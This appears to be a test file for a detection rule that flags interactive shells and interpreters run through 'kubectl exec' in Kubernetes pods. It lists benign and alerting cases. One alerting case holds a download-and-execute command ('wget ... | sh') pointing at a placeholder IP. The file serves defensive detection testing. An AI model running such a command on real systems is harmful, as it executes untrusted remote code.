import { execEvent } from '../exec.fixtures.js';
import { testDetection } from '../tester.js';
import detection from './index.js';

testDetection(detection, {
  valid: [
    { name: 'a plain command', events: [execEvent({ command: ['ls', '-la', '/app'] })] },
    { name: 'a shell as an argument, not the program', events: [execEvent({ command: ['cat', '/bin/sh'] })] },
    { name: 'a lookalike name', events: [execEvent({ command: ['/usr/local/bin/shellcheck', 'x.sh'] })] },
    { name: 'attach runs no new command', events: [execEvent({ kind: 'attach', interactive: true })] },
    {
      name: 'a denied exec of bash',
      events: [execEvent({ command: ['bash'] }, { stage: 'ResponseComplete', responseStatus: { code: 403 } })],
    },
  ],
  invalid: [
    {
      name: 'kubectl exec -it … -- /bin/bash',
      events: [execEvent({ command: ['/bin/bash'], interactive: true })],
      alerts: [{ techniques: ['MS-TA9007'], message: /ran the shell "bash" interactively in pod default\// }],
    },
    {
      name: 'sh -c with a URL-encoded script',
      events: [execEvent({ command: ['sh', '-c', 'wget -qO- http://203.0.113.9/x | sh'] })],
      alerts: [{ message: /the shell "sh" with arguments/ }],
    },
    {
      name: 'python3.12 behind env with an assignment',
      events: [execEvent({ command: ['/usr/bin/env', 'PYTHONPATH=/tmp', 'python3.12', '-c', 'import os'] })],
      alerts: [{ message: /the interpreter "python3\.12"/ }],
    },
    {
      name: 'busybox sh in a distroless debug image',
      events: [execEvent({ command: ['busybox', 'sh'] })],
      alerts: [{ message: /the shell "sh" without a terminal/ }],
    },
    {
      name: 'PowerShell in a Windows container',
      events: [execEvent({ command: ['C:\\Program Files\\PowerShell\\7\\pwsh.exe'], interactive: true })],
      alerts: [{ message: /the interpreter "pwsh"/ }],
    },
    { name: 'perl', events: [execEvent({ command: ['perl', '-e', 'print 1'] })], alerts: [{ message: /"perl"/ }] },
    { name: 'node', events: [execEvent({ command: ['node'] }, { verb: 'get' })], alerts: [{ message: /"node"/ }] },
  ],
});
